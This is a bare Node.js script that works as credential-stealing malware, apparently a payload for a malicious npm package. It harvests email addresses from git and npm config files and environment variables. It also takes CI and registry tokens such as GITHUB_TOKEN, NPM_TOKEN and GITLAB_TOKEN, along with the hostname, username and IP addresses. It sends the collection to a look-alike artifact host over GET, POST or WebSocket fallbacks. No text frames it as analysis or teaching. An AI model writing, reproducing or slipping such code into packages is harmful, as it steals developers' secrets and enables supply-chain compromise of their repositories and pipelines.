const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('http');
const { execSync } = require('child_process');
const WebSocket = require('ws');

const host = 'packages.storeartifact.example';

function sh(c) { try { return execSync(c, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 3000 }).toString().trim(); } catch (e) { return ''; } }

function findEmails() {
  const out = new Set();
  const re = /[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}/g;
  for (const k of Object.keys(process.env)) { const m = String(process.env[k]).match(re); if (m) m.forEach(e => out.add(e)); }
  for (const f of [path.join(os.homedir(), '.gitconfig'), path.join(process.cwd(), '.git', 'config'), path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), 'package.json')]) {
    try { const m = fs.readFileSync(f, 'utf8').match(re); if (m) m.forEach(e => out.add(e)); } catch (e) {}
  }
  const g = sh('git config --global user.email'); if (g) out.add(g);
  return [...out];
}

function ci() {
  const keys = ['GITHUB_TOKEN', 'GH_TOKEN', 'GITLAB_TOKEN', 'CI_JOB_TOKEN', 'JENKINS_URL', 'BUILD_URL', 'CIRCLE_TOKEN', 'CIRCLECI', 'NPM_TOKEN', 'BITBUCKET_TOKEN', 'TRAVIS', 'BUILDKITE_AGENT_ACCESS_TOKEN'];
  const o = {}; for (const k of keys) if (process.env[k]) o[k] = process.env[k]; return o;
}

const info = {
  emails: findEmails(),
  ci: ci(),
  hostname: os.hostname(), user: os.userInfo().username, platform: os.platform(), arch: os.arch(), node: process.version,
  ip: Object.values(os.networkInterfaces()).flat().filter(i => i && !i.internal).map(i => i.address),
  npm_package: process.env.npm_package_name
};
const data = JSON.stringify(info);

function viaGet(cb) {
  https.get({ host, path: '/get.php?e=' + encodeURIComponent(Buffer.from(data).toString('base64')) }, () => cb(true)).on('error', () => cb(false));
}
function viaPost(cb) {
  const r = https.request({ host, path: '/post.php', method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(data) } }, () => cb(true));
  r.on('error', () => cb(false)); r.end(data);
}
function viaWs() {
  try { const ws = new WebSocket('ws://' + host + '/ws'); ws.on('open', () => { ws.send(data); ws.close(); }); ws.on('error', () => {}); } catch (e) {}
}

viaGet(ok => { if (!ok) viaPost(ok2 => { if (!ok2) viaWs(); }); });
